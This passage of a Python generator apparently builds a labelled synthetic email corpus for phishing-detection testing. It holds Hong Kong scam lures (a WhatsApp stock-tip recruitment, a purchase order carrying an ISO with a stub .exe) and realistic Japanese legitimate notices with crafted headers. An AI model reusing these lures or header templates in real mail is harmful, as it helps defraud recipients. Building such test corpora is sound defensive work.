        dkim("outlook.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", sent, stem),
        f"From: {addr('Kelly 投資助理', frm)}",
        f"To: {addr('', rcpt)}",
        subj("【免費】WhatsApp 股票交流群 — AI量化選股，每日3隻潛力股"),
        f"Date: {rfc(sent, 0, pad=False)}",
        f"Message-ID: {mid}",
        "Accept-Language: zh-HK, en-US",
        "Content-Language: zh-HK",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
    )
    src = Src("NAM11-DM6-obe.outbound.protection.outlook.com", "40.92.19.51", frm, "outlook.com", "pass",
              [("outlook.com", "selector1", "pass")], dmarc="pass", policy="NONE",
              rdns="mail-dm6nam11olkn2051.outbound.protection.outlook.com")
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "phish", "phishing",
        "Investment scam in Cantonese from a free Outlook.com account: 'teacher's assistant' recruits into a WhatsApp stock-tip group with claimed 42% gains",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_iso_po_hk() -> None:
    stem = "b38-phish-hk-po-iso"
    rcpt = "eric.ho@pacificharbour.com.hk"
    sent = T(2025, 4, 17, 9, 2, 36, 8)
    dom = "sunrise-traders.com.my"
    iso = files.iso_image([("PO-HK250417.exe", files.pe_stub())], "PO_HK250417")
    plain = """Dear Eric,

Good morning.

Please find attached our new purchase order PO-HK250417 for your kind
confirmation of price and delivery schedule.

Kindly confirm receipt and send us the proforma invoice at your earliest.

Thanks & Best Regards,

Jacky Ng
Purchasing Executive
Sunrise Traders Sdn. Bhd.
No. 12, Jalan Perusahaan 3, 81200 Johor Bahru, Malaysia
Tel: +60 7-236 1188
"""
    hdr = H(
        f"Received: from [{'102.129.143.' + str(num(stem, 2, 250))}] (port={num(stem + 'p', 50000, 65000)} helo=[127.0.0.1])\n"
        f"\tby my{num(stem + 'h', 10, 99)}.exabytes.com.my with esmtpsa (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
        f"\t(Exim 4.97.1)\n\t(envelope-from <jacky.ng@{dom}>)\n\tid 1u5{tok(stem + 'ex', 3, ALNUM)}-{tok(stem + 'ex2', 7, ALNUM)}-{tok(stem + 'ex3', 2, ALNUM)};\n\t{rfc(sent, 8, pad=False)}",
        dkim(dom, "default", "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From", sent, stem),
        f"From: {addr('Jacky Ng', 'jacky.ng@' + dom)}",
        f"To: {rcpt}",
        "Subject: New Purchase Order PO-HK250417",
        f"Date: {rfc(sent, pad=False)}",
        f"Message-ID: <{tok(stem + 'm', 32)}@{dom}>",
        "X-Mailer: Microsoft Outlook 16.0",
    )
    src = Src(f"my{num(stem + 'h', 10, 99)}.exabytes.com.my", "103.6.198.75", f"jacky.ng@{dom}", dom, "pass",
              [(dom, "default", "pass")], dmarc="bestguesspass")
    body = mixed(f"----=_NextPart_000_{tok(stem + 'b', 4, UHEX)}_01DBAF{tok(stem + 'b2', 2, UHEX)}.{tok(stem + 'b3', 8, UHEX)}",
                 text(plain, "plain", "7bit", "us-ascii"),
                 attachment("application/x-iso9660-image", "PO-HK250417.iso", iso))
    add(stem, "phish", "malware",
        "Purchase-order malware to a HK trading firm from a compromised Malaysian trading mailbox (auth passes): ISO disc image holding PO-HK250417.exe (AgentTesla-style loader)",
        deliver(rcpt, sent + timedelta(seconds=4), src, stem, hdr, body, ctry="MY", lang="en"))


HK_ATTACKS = [p_hsbc_hk, p_hkpost, p_sf_express, p_hk_etax_refund, p_hketoll, p_hk_bec_invoice, p_docusign_abuse_hk,
              p_hk_invest_whatsapp, p_iso_po_hk]

# ---------------------------------------------------------------------------
# LEGITIMATE — Japan
# ---------------------------------------------------------------------------


def l_vpass_usage() -> None:
    stem = "b38-legit-vpass-usage-notice"
    rcpt = "yuki.tanaka1987@gmail.com"
    sent = T(2025, 2, 16, 14, 33, 5, 9)
    dom = "vpass.ne.jp"
    plain = """田中 由紀 様

いつも三井住友カードをご利用いただきありがとうございます。
お客様のカードご利用内容をお知らせいたします。

ご利用カード：三井住友カード（NL）
◇利用日：2025/02/16 14:32
◇利用先：セブン-イレブン
◇利用取引：買物
◇利用金額：1,286円

ご利用内容の詳細は、Vpassアプリ、またはVpassでご確認いただけます。
なお、ご利用内容がVpassに反映されるまでに数日かかる場合がございます。

■ご利用内容にお心当たりがない場合
お手数ですが、カード裏面に記載の電話番号までお問い合わせください。

※本メールは、「ご利用通知サービス」にご登録いただいたお客様にお送りしています。
※本メールは送信専用アドレスからお送りしています。ご返信いただいてもお答えできません。

三井住友カード株式会社
https://www.smbc-card.com/
"""
    hdr = H(
        dkim(dom, "vp2023", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('三井住友カード', 'statement@' + dom, 'ISO-2022-JP')}",
        f"To: {rcpt}",
        subj("【三井住友カード】ご利用のお知らせ", "ISO-2022-JP"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 14, DIGITS)}.{tok(stem + 'm2', 12, UHEX)}.riyo@{dom}>",
    )
    src = Src("mta21.vpass.ne.jp", "210.150.124.87", f"bounce-riyo@{dom}", dom, "pass", [(dom, "vp2023", "pass")],
              dmarc="pass", policy="REJECT")
    body = text(plain, "plain", "7bit", "iso-2022-jp")
    add(stem, "legit", "bulk",
        "Genuine SMBC card usage notification (1,286 yen at a convenience store) from vpass.ne.jp, ISO-2022-JP text, DMARC pass, no login link",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_amazon_order() -> None:
    stem = "b38-legit-amazon-jp-order"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2025, 3, 8, 21, 14, 37, 9)
    order = f"250-{tok(stem + 'o', 7, DIGITS)}-{tok(stem + 'o2', 7, DIGITS)}"
    od = f"https://www.amazon.co.jp/gp/css/order-details?orderID={order}&ref_=pe_{tok(stem + 'r', 7, DIGITS)}_{tok(stem + 'r2', 9, DIGITS)}"
    html = f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><title>Amazon.co.jp ご注文の確認</title></head>
<body style="margin:0;padding:0;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Amazon Ember',Arial,sans-serif;">
<tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td style="padding:14px 20px;"><a href="https://www.amazon.co.jp/?ref_=pe_{tok(stem + 'r', 7, DIGITS)}_{tok(stem + 'r3', 9, DIGITS)}"><img src="https://m.media-amazon.com/images/G/09/x-locale/common/transparent-pixel._CB485935036_.gif" alt="amazon.co.jp" width="120" height="32"></a></td>
<td align="right" style="font-size:20px;padding:14px 20px;">ご注文の確認</td></tr>
<tr><td colspan="2" style="padding:8px 20px;font-size:14px;line-height:1.6;">
<p>近藤 美咲 様</p>
<p>Amazon.co.jpをご利用いただき、ありがとうございます。お客様のご注文を承りましたのでお知らせいたします。
お届け予定日が決まりましたら、発送のお知らせをお送りします。</p>
<p style="font-size:18px;color:#c45500;">お届け予定：3月10日 月曜日</p>
<p>お届け先：近藤 美咲 様 東京都世田谷区...</p>
<p><a href="{od}" style="background:#ffd814;padding:8px 20px;border-radius:8px;color:#0f1111;text-decoration:none;">注文の詳細を表示</a></p>
<p>注文番号 <a href="{od}">{order}</a></p>
<table width="100%" style="font-size:14px;border-top:1px solid #ddd;">
<tr><td>Anker Soundcore Liberty 4 NC ワイヤレスイヤホン ブラック</td><td align="right">￥12,990</td></tr>
<tr><td>エレコム iPhone 16 フィルム ガラス 高透明</td><td align="right">￥1,280</td></tr>
<tr><td><b>注文合計（税込）</b></td><td align="right"><b>￥14,270</b></td></tr>
</table>
<p style="font-size:12px;color:#555;">このメールは配信専用アドレスから送信されています。ご注文内容の変更・キャンセルは
<a href="https://www.amazon.co.jp/gp/css/order-history?ref_=pe_{tok(stem + 'r', 7, DIGITS)}_{tok(stem + 'r4', 9, DIGITS)}">注文履歴</a>から行えます。</p>
<p style="font-size:11px;color:#888;">&copy; 2025 Amazon.com, Inc. or its affiliates. Amazon、Amazon.co.jpおよびそれらのロゴはAmazon.com, Inc.またはその関連会社の商標です。</p>
</td></tr></table>
</td></tr></table></body></html>
"""
    plain = (f"Amazon.co.jp ご注文の確認\n\n近藤 美咲 様\n\nAmazon.co.jpをご利用いただき、ありがとうございます。\n"
             f"お届け予定：3月10日 月曜日\n\n注文番号：{order}\n注文の詳細を表示: {od}\n\n"
             "Anker Soundcore Liberty 4 NC ワイヤレスイヤホン ブラック  ￥12,990\n"
             "エレコム iPhone 16 フィルム ガラス 高透明  ￥1,280\n注文合計（税込）：￥14,270\n\n"
             "このメールは配信専用アドレスから送信されています。\n")
    hdr = H(
        dkim("amazon.co.jp", "rjrzc5nfrbrrkvdbwi5mxrbyk3jjiw4p", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type",
             sent, stem, c="simple/simple"),
        dkim("amazonses.com", "zh4gjftm6etwoq6afzugpky45synznly", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID",
             sent, stem + "ses", c="simple/simple"),
        f"Date: {rfc(sent, 0)}",
        f"From: {addr('Amazon.co.jp', 'auto-confirm@amazon.co.jp')}",
        f"To: {rcpt}",
        f"Message-ID: <01060195{tok(stem + 'm', 8)}-{tok(stem + 'm2', 8)}-{tok(stem + 'm3', 4)}-{tok(stem + 'm4', 4)}-{tok(stem + 'm5', 4)}-{tok(stem + 'm6', 12)}-000000@ap-northeast-1.amazonses.com>",
        subj("Amazon.co.jp ご注文の確認 「Anker Soundcore Liberty 4 NC ワイヤレス...」ほか1点"),
        f"Feedback-ID: ::1.ap-northeast-1.{tok(stem + 'fb', 43, B64)}=:AmazonSES",
        "X-AMAZON-MAIL-RELAY-TYPE: notification",
    )
    src = Src("e226-55.smtp-out.ap-northeast-1.amazonses.com", "23.251.226.55",
              f"20250308121437{tok(stem + 'bt', 20, LOWER)}@bounces.amazon.co.jp", "amazon.co.jp", "pass",
              [("amazon.co.jp", "rjrzc5nfrbrrkvdbwi5mxrbyk3jjiw4p", "pass"),
               ("amazonses.com", "zh4gjftm6etwoq6afzugpky45synznly", "pass")], dmarc="pass", policy="QUARANTINE")
    body = alt(plain, html, f"----=_Part_{tok(stem + 'b', 7, DIGITS)}_{tok(stem + 'b2', 10, DIGITS)}.{tok(stem + 'b3', 13, DIGITS)}",
               penc="quoted-printable", henc="quoted-printable")
    add(stem, "legit", "bulk",
        "Genuine Amazon.co.jp order confirmation sent via SES Tokyo, DKIM amazon.co.jp + amazonses.com, DMARC pass, links only to amazon.co.jp",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_rakuten_sec_login() -> None:
    stem = "b38-legit-rakuten-sec-login"
    rcpt = "kenji.watanabe.fx@gmail.com"
    sent = T(2025, 4, 10, 21, 3, 40, 9)
    dom = "rakuten-sec.co.jp"
    plain = """渡辺 健二 様

いつも楽天証券をご利用いただき、誠にありがとうございます。
お客様の口座にログインがありましたので、お知らせいたします。

　ログイン日時：2025/04/10 21:03:12
　ログイン方法：iSPEED（スマートフォンアプリ）
　ご利用環境　：iOS 18.3

このログインにお心当たりがある場合は、本メールへの対応は不要です。

お心当たりがない場合は、第三者がお客様のログインID・パスワードを不正に
利用している可能性があります。当社ウェブサイトを検索またはブックマークから
開き、直ちにパスワードを変更のうえ、カスタマーサービスセンターまで
ご連絡ください。

※当社がメールやSMSで、ログインID・パスワード・暗証番号等の入力を
　お願いすることはありません。メール内のリンクからのログインにはご注意ください。

セキュリティについて
https://www.rakuten-sec.co.jp/web/security/

--------------------------------------------------------
楽天証券株式会社
金融商品取引業者 関東財務局長（金商）第195号
本メールは送信専用アドレスからお送りしています。
--------------------------------------------------------
"""
    hdr = H(
        dkim(dom, "rsec1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('楽天証券', 'info@mail.' + dom)}",
        f"To: {rcpt}",
        subj("【楽天証券】ログインのお知らせ"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 20, DIGITS)}.login@mail.{dom}>",
    )
    src = Src(f"mo{num(stem, 10, 40)}.mail.{dom}", "202.32.113.68", f"bounce@mail.{dom}", dom, "pass",
              [(dom, "rsec1", "pass")], dmarc="pass", policy="REJECT")
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "legit", "bulk",
        "Genuine Rakuten Securities login notification (2025 feature), plain text, DMARC pass, tells the user never to log in from mail links; only a security-info URL",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def l_sbi_security_notice() -> None:
    stem = "b38-legit-sbi-security-notice"
    rcpt = "kenji.watanabe.fx@gmail.com"
    sent = T(2025, 4, 18, 17, 0, 2, 9)
    dom = "sbisec.co.jp"
    trk = lambda path, n: f"https://www.sbisec.co.jp/ETGate/WPLETmgR001Control?OutSide=on&getFlg=on&burl=search_home&cat1=home&cat2=none&dir=info&file={path}&utm_source=mail&utm_medium=info&utm_campaign=250418_{n}"  # noqa: E731
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f2f2f2;">
<table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Meiryo,sans-serif;font-size:14px;color:#333;">
<tr><td style="padding:14px 20px;border-bottom:3px solid #0a3d8f;font-size:18px;font-weight:bold;color:#0a3d8f;">SBI証券</td></tr>
<tr><td style="padding:20px;line-height:1.8;">
<p>渡辺 健二 様</p>
<p>平素はSBI証券をご利用いただき、誠にありがとうございます。</p>
<p>昨今、証券会社を装ったフィッシングサイトによる不正ログイン・不正取引の被害が業界全体で発生しております。
当社では、お客様の大切な資産をお守りするため、以下のセキュリティ強化を順次実施いたします。</p>
<ul>
<li>ログイン時のデバイス認証の必須化（2025年4月26日より）</li>
<li>FIDO認証（パスキー）によるログインの提供開始</li>
<li>国内株式の取引時の認証強化</li>
</ul>
<p>詳細は<a href="{trk('info_250418_01.html', 1)}">当社ウェブサイトのお知らせ</a>をご確認ください。</p>
<p style="background:#fff4e5;padding:12px;border-left:4px solid #f39800;">
<b>ご注意ください</b><br>当社がメールやSMSでお客様情報の確認やログインを求め、リンク先でパスワードを入力させることはありません。
ログインの際は、公式アプリまたはブックマークから当社ウェブサイトにアクセスしてください。</p>
<p><a href="{trk('security.html', 2)}">フィッシング詐欺にご注意ください</a></p>
</td></tr>
<tr><td style="padding:14px 20px;font-size:11px;color:#888;background:#fafafa;">
株式会社SBI証券 金融商品取引業者 関東財務局長（金商）第44号<br>
加入協会：日本証券業協会、一般社団法人金融先物取引業協会、一般社団法人第二種金融商品取引業協会、一般社団法人日本STO協会<br>
メール配信の停止・変更は<a href="{trk('mail_setting.html', 3)}">こちら</a>
</td></tr></table>
<img src="https://mail-log.sbisec.co.jp/open?c=250418&u={tok(stem + 'px', 16)}" width="1" height="1" alt="">
</body></html>
"""
    plain = ("渡辺 健二 様\n\n平素はSBI証券をご利用いただき、誠にありがとうございます。\n\n"
             "当社では以下のセキュリティ強化を順次実施いたします。\n"
             "・ログイン時のデバイス認証の必須化（2025年4月26日より）\n・FIDO認証（パスキー）によるログインの提供開始\n"
             f"・国内株式の取引時の認証強化\n\n詳細：{trk('info_250418_01.html', 1)}\n\n"
             "当社がメールやSMSでログインを求め、リンク先でパスワードを入力させることはありません。\n\n株式会社SBI証券\n")
    hdr = H(
        dkim(dom, "sbi2024", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe", sent, stem),
        f"From: {addr('SBI証券', 'info@mail.' + dom)}",
        f"To: {rcpt}",
        subj("【SBI証券】セキュリティ強化（デバイス認証の必須化・FIDO認証の導入）のお知らせ"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 24, DIGITS)}@mail.{dom}>",
        f"List-Unsubscribe: <{trk('mail_setting.html', 3)}>",
    )
    src = Src(f"mta{num(stem, 1, 9)}.mail.{dom}", "203.138.185.21", f"info-bounce@mail.{dom}", dom, "pass",
              [(dom, "sbi2024", "pass")], dmarc="pass", policy="REJECT")
    body = alt(plain, html, f"=_{tok(stem + 'b', 28, ALNUM)}", henc="quoted-printable")
    add(stem, "legit", "bulk",
        "Genuine SBI Securities announcement of device authentication / FIDO (the real notice the 2025 lures copy), DMARC pass, links to sbisec.co.jp with UTM tags and an open pixel",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def l_yamato_schedule() -> None:
    stem = "b38-legit-yamato-delivery-schedule"
    rcpt = "yuki.tanaka1987@gmail.com"
    sent = T(2025, 6, 5, 7, 2, 11, 9)
    dom = "kuronekoyamato.co.jp"
    slip = f"{tok(stem + 's', 4, DIGITS)}-{tok(stem + 's2', 4, DIGITS)}-{tok(stem + 's3', 4, DIGITS)}"
    plain = f"""田中 由紀様

ヤマト運輸です。
お荷物のお届け予定をお知らせします。

■お届け予定日時
　06月05日　14時～16時

■ご依頼主
　ユニクロオンラインストア　様

■伝票番号
　{slip}

■お届け予定日時の変更・ご自宅以外での受け取りはこちら
　https://jizen.kuronekoyamato.co.jp/jizen/servlet/crjz.b.NQ0010?id={tok(stem + 'id', 24, ALNUM)}

※このメールは送信専用です。
※クロネコメンバーズにご登録のメールアドレスへお送りしています。

ヤマト運輸株式会社
"""
    plain = plain.replace("～", "〜")
    hdr = H(
        dkim(dom, "yamato1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('ヤマト運輸', 'mail@' + dom, 'ISO-2022-JP')}",
        f"To: {rcpt}",
        subj("お届け予定eメール", "ISO-2022-JP"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 18, DIGITS)}.{tok(stem + 'm2', 6, DIGITS)}@{dom}>",
    )
    src = Src(f"mx{num(stem, 1, 9)}.{dom}", "210.149.148.33", f"bounce@{dom}", dom, "pass", [(dom, "yamato1", "pass")],
              dmarc="pass", policy="REJECT")
    body = text(plain, "plain", "7bit", "iso-2022-jp")
    add(stem, "legit", "bulk",
        "Genuine Yamato 'scheduled delivery e-mail' in ISO-2022-JP with a jizen.kuronekoyamato.co.jp change link, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_etax_messagebox() -> None:
    stem = "b38-legit-etax-message-box"
    rcpt = "keiri@aoba-logi.co.jp"
    sent = T(2025, 3, 10, 10, 31, 8, 9)
    dom = "e-tax.nta.go.jp"
    plain = """株式会社青葉ロジスティクス 様

e-Tax（国税電子申告・納税システム）をご利用いただき、ありがとうございます。

メッセージボックスに新しいメッセージが格納されました。
e-Taxにログインして、メッセージボックスの内容をご確認ください。

　利用者識別番号：************2607
　格納日時　　　：令和7年3月10日 10時31分

e-Taxソフト（WEB版）はこちらから
https://clientweb.e-tax.nta.go.jp/

※本メールは、e-Taxにメールアドレスを登録された方に送信しています。
※本メールアドレスは送信専用です。ご返信いただいてもお答えできません。
※国税庁から、メールで納税や還付金の手続きのためにクレジットカード情報等の
　入力を求めることはありません。

国税庁
"""
    hdr = H(
        dkim(dom, "etax", "From:To:Subject:Date:Message-ID", sent, stem),
        f"From: {addr('e-Tax', 'info@' + dom)}",
        f"To: {rcpt}",
        subj("【e-Tax】メッセージボックスにお知らせが格納されました", "ISO-2022-JP"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 20, DIGITS)}@{dom}>",
    )
    src = Src(f"mail{num(stem, 1, 4)}.{dom}", "202.214.194.39", f"info@{dom}", dom, "pass", [(dom, "etax", "pass")],
              dmarc="pass", policy="REJECT", tls=True)
    body = text(plain, "plain", "7bit", "iso-2022-jp")
    add(stem, "legit", "bulk",
        "Genuine e-Tax 'new message in your message box' notice to a company's accounting mailbox, DMARC pass, points to clientweb.e-tax.nta.go.jp and warns card details are never asked by mail",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_jp_colleague_docx() -> None:
    stem = "b38-legit-jp-colleague-meeting"
    rcpt = "h-ogawa@kitamura-seiki.co.jp"
    sent = T(2025, 10, 2, 17, 48, 20, 9)
    plain = """小川さん
（cc：佐々木さん）

お疲れ様です。営業部の山本です。

来週10/8（水）の定例会議で使用する第3四半期の営業報告を添付します。
前回ご指摘いただいた東海地区の受注推移と、新規顧客3社の見込みを追記しています。

経費の数字は佐々木さんに確認いただいたものを反映済みです。
修正点があれば、7日（火）中にご連絡いただけると助かります。

よろしくお願いいたします。

--
北村精機株式会社　営業部
山本 健太
TEL：052-881-3320（内線215）
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-2022-jp\"></head><body lang=\"JA\">"
            "<div class=\"WordSection1\"><p class=\"MsoNormal\" style=\"font-family:游ゴシック;font-size:10.5pt;\">"
            + plain.replace("\n", "<br>\n") + "</p></div></body></html>\n")
    doc = files.docx(["Q3 Sales Report (2025/07-09)", "Tokai region orders: 128.4M JPY (+6.2% YoY)",
                      "New prospects: 3 companies", "Prepared by K. Yamamoto, Sales Dept."],
                     "第3四半期 営業報告", "山本 健太")
    mid = outlook_mid(stem, "jp")
    hdr = outlook_sender(stem, sent, addr("山本 健太", "k-yamamoto@kitamura-seiki.co.jp", "ISO-2022-JP"),
                         addr("小川 浩", rcpt, "ISO-2022-JP"), subj("来週の定例会議資料（第3四半期 営業報告）", "ISO-2022-JP"),
                         mid, None, cc=addr("佐々木 美穂", "m-sasaki@kitamura-seiki.co.jp", "ISO-2022-JP"),
                         topic=ew("来週の定例会議資料（第3四半期 営業報告）", "ISO-2022-JP"), has_att=True)
    body = mixed(f"_004_{mid[1:40]}_",
                 alt(plain, html, f"_000_{mid[1:40]}_", charset="iso-2022-jp", penc="7bit", henc="quoted-printable"),
                 att("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "第3四半期_営業報告.docx",
                     doc, "ISO-2022-JP"))
    add(stem, "legit", "clean",
        "Internal Outlook mail between colleagues at a Japanese manufacturer (ISO-2022-JP) with the Q3 sales-report .docx for next week's meeting",
        deliver(rcpt, sent + timedelta(seconds=1), None, stem, hdr, body, internal=True))


def l_jp_bank_change_proper() -> None:
    stem = "b38-legit-jp-supplier-bank-change"
    rcpt = "keiri@aoba-logi.co.jp"
    sent = T(2025, 8, 29, 11, 5, 47, 9)
    dom = "tokai-packaging.co.jp"
    plain = """株式会社青葉ロジスティクス
経理部 ご担当者様

いつも大変お世話になっております。
東海パッケージ株式会社 経理部の鈴木でございます。

このたび弊社は、取引銀行の統合に伴い、2025年10月1日お支払い分より
お振込先口座を下記のとおり変更させていただくこととなりました。
詳細は添付の文書（代表者印押印済み）をご確認ください。
同じ書面を本日、郵送にてもお送りしております。

【新しいお振込先】
　三菱UFJ銀行　名古屋営業部（店番150）
　普通預金　口座番号 0487215
　口座名義　トウカイパッケージ（カ

【変更時期】
　2025年10月1日お支払い分より
　（9月末日までのお支払いは、従来の口座へお願いいたします）

なお、昨今メールによる振込先変更の詐欺が増えておりますため、
お手数ですが、弊社代表電話（052-219-4410）より経理部 鈴木まで
お電話にてご確認いただけますと幸いです。
弊社から、メールのみで口座変更をお願いすることはございません。

お手数をおかけいたしますが、何卒よろしくお願い申し上げます。

――――――――――――――――――――
東海パッケージ株式会社　経理部
鈴木 浩二（Koji Suzuki）
〒460-0008 名古屋市中区栄2-11-7
TEL：052-219-4410（代表）
――――――――――――――――――――
"""
    plain = plain.replace("（カ\n", "（カ）\n")
    html = "<div dir=\"ltr\">" + "<br>".join(plain.rstrip("\n").split("\n")) + "</div>\n"
    letter = files.pdf([
        "Tokai Packaging Co., Ltd.                                   2025-08-29",
        "",
        "To our valued customers",
        "",
        "Notice of Change of Bank Account for Remittance",
        "",
        "Due to the consolidation of our banking relationships, payments from",
        "1 October 2025 onward should be made to the following account:",
        "",
        "  Bank: MUFG Bank, Ltd., Nagoya Main Office (branch 150)",
        "  Account: Ordinary 0487215",
        "  Name: Tokai Packaging Co., Ltd.",
        "",
        "Payments until 30 September 2025 go to the existing account.",
        "Please confirm by telephone at our main number 052-219-4410.",
        "",
        "Representative Director  Hiroshi Tokai   [company seal]",
    ], title="Notice of change of bank account")
    mid = gmail_mid(stem)
    hdr = gmail_sender(stem, sent, addr("鈴木 浩二", f"k-suzuki@{dom}"), addr("経理部", rcpt),
                       subj("【ご案内】お振込先口座変更のお知らせ（2025年10月1日お支払い分より）"), mid, dkim_d=dom)
    src = Src("mail-pf1-f170.google.com", "209.85.210.170", f"k-suzuki@{dom}", dom, "pass",
              [(dom, "google", "pass")], dmarc="pass", policy="QUARANTINE")
    body = mixed(f"000000000000{tok(stem + 'mx', 16)}",
                 alt(plain, html, f"000000000000{tok(stem + 'al', 16)}"),
                 att("application/pdf", "振込先口座変更のお知らせ.pdf", letter))
    add(stem, "legit", "clean",
        "Genuine supplier bank-account change done properly: from the supplier's real domain (DMARC pass), company-name account at a major bank, signed letter PDF, paper copy mailed, asks the customer to confirm by phone",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_rakuten_newsletter() -> None:
    stem = "b38-legit-rakuten-ichiba-news"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2025, 5, 9, 20, 0, 3, 9)
    dom = "emagazine.rakuten.co.jp"

    def r(n: int) -> str:
        return f"https://r10.to/h{tok(stem + 'r' + str(n), 5, ALNUM)}?scid=mi_ich_mag_250509_{n:02d}"
    items = [("お買い物マラソン 5/9 20:00スタート！ポイント最大46倍", r(1)),
             ("エントリーはこちら（要エントリー）", r(2)),
             ("【半額】人気ブランドの夏物アイテム", r(3)),
             ("ふるさと納税 ランキング", r(4)),
             ("楽天スーパーポイントスクリーン", r(5))]
    lis = "\n".join(f'<tr><td style="padding:10px 0;border-bottom:1px solid #eee;"><a href="{u}" style="color:#bf0000;font-size:15px;">{t}</a></td></tr>' for t, u in items)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:'Hiragino Kaku Gothic ProN',Meiryo,sans-serif;">
<tr><td align="center" style="padding:10px;"><a href="{r(0)}"><img src="https://image.rakuten.co.jp/com/img/mail/rakuten_logo.png" width="140" alt="楽天市場"></a></td></tr>
<tr><td><a href="{r(1)}"><img src="https://image.rakuten.co.jp/com/img/mail/2505/marathon_main.jpg" width="600" alt="お買い物マラソン"></a></td></tr>
<tr><td style="padding:10px 14px;font-size:14px;">近藤 美咲 様、こんばんは。今夜20時からお買い物マラソンがスタート！</td></tr>
<tr><td style="padding:0 14px;"><table width="100%">{lis}</table></td></tr>
<tr><td style="padding:14px;font-size:11px;color:#888;line-height:1.6;">
このメールは楽天会員のメールマガジン配信をご希望の方にお送りしています。<br>
配信停止・変更は<a href="https://emagazine.rakuten.co.jp/?l-id=mail_stop_{tok(stem + 'u', 10, LOWER)}">メルマガ配信管理</a>から。<br>
楽天グループ株式会社 〒158-0094 東京都世田谷区玉川一丁目14番1号</td></tr>
</table>
<img src="https://emagazine.rakuten.co.jp/o/{tok(stem + 'px', 24, LOWER)}.gif" width="1" height="1" alt="">
</body></html>
"""
    plain = "近藤 美咲 様\n\n今夜20時からお買い物マラソンがスタート！\n\n" + "\n".join(f"■{t}\n{u}\n" for t, u in items) + \
            "\n配信停止・変更：https://emagazine.rakuten.co.jp/\n楽天グループ株式会社\n"
    unsub = f"https://emagazine.rakuten.co.jp/unsub?k={tok(stem + 'uk', 32, LOWER)}"
    hdr = H(
        dkim(dom, "rmail", "From:To:Subject:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post", sent, stem),
        f"From: {addr('楽天市場', 'ichiba-mag@' + dom)}",
        f"To: {rcpt}",
        subj("【楽天市場】今夜20時スタート！お買い物マラソン ポイント最大46倍"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 16, DIGITS)}.{tok(stem + 'm2', 10, LOWER)}@{dom}>",
        f"List-Unsubscribe: <{unsub}>, <mailto:unsub-{tok(stem + 'uk', 16, LOWER)}@{dom}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"X-Mailer-RecptId: {tok(stem + 'rid', 12, DIGITS)}",
    )
    src = Src(f"mta-{num(stem, 10, 99)}.{dom}", "133.237.16.41", f"bounce-{tok(stem + 'b', 12, LOWER)}@{dom}",
              dom, "pass", [(dom, "rmail", "pass")], dmarc="pass", policy="REJECT")
    body = alt(plain, html, f"----=_Part_{tok(stem + 'bd', 7, DIGITS)}", henc="quoted-printable")
    add(stem, "legit", "bulk",
        "Genuine Rakuten Ichiba shopping-marathon newsletter full of r10.to tracking links, one-click unsubscribe, open pixel, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=5), src, stem, hdr, body))


def l_docomo_bill() -> None:
    stem = "b38-legit-docomo-bill"
    rcpt = "kenji.watanabe.fx@gmail.com"
    sent = T(2025, 9, 25, 10, 0, 14, 9)
    dom = "mail.docomo.ne.jp"
    plain = """渡辺 健二 様

いつもドコモをご利用いただきありがとうございます。
2025年9月ご請求分のご利用料金が確定しましたのでお知らせします。

　ご請求金額：7,348円（税込）
　お支払い方法：クレジットカード
　お支払い予定日：2025年10月上旬（カード会社の規定による）

ご利用料金の内訳は、My docomoでご確認いただけます。
https://www.docomo.ne.jp/mydocomo/charges/

※ドコモでは、SMSやメールでdアカウントのパスワードや
　クレジットカード情報の入力を求めることはありません。

※本メールは送信専用です。
株式会社NTTドコモ
"""
    hdr = H(
        dkim("docomo.ne.jp", "dcm1", "From:To:Subject:Date:Message-ID", sent, stem),
        f"From: {addr('NTTドコモ', 'info@' + dom)}",
        f"To: {rcpt}",
